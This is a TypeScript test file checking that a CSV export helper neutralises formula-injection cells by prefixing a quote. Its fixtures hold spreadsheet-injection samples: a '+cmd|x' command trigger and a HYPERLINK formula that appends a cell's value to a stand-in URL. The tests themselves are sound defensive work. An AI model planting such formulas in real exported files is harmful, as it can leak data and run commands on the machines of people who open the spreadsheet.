import { expect } from 'chai';
import type { Response } from 'express';
import { neutraliseCell, sendCsv } from '../../../../collector/views/http/respond.js';

/** A Response that keeps what sendCsv sends. */
function capture(): { res: Response; body: () => string } {
  let sent = '';
  const res = {
    status: () => res,
    type: () => res,
    set: () => res,
    send: (b: string) => {
      sent = b;
      return res;
    },
  } as unknown as Response;
  return { res, body: () => sent };
}

describe('collector/views/http/respond CSV', () => {
  it('neutraliseCell() prefixes a quote to text starting with =, +, -, @, tab or CR, and nothing else', () => {
    for (const t of ['=1+1', '+cmd|x', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) expect(neutraliseCell(t)).to.equal(`'${t}`);
    for (const t of ['学校', 'a=b', '1-2', '', "'=x"]) expect(neutraliseCell(t)).to.equal(t);
  });

  it('sendCsv() neutralises text cells but keeps negative numbers numbers', () => {
    const { res, body } = capture();
    sendCsv(res, 'x.csv', ['name', 'delta'], [['=HYPERLINK("http://x"&A1,"点击")', -5], ['-3', -0.5], ['@a', 0]]);
    expect(body()).to.equal('\uFEFFname,delta\r\n"\'=HYPERLINK(""http://x""&A1,""点击"")",-5\r\n\'-3,-0.5\r\n\'@a,0\r\n');
  });
});
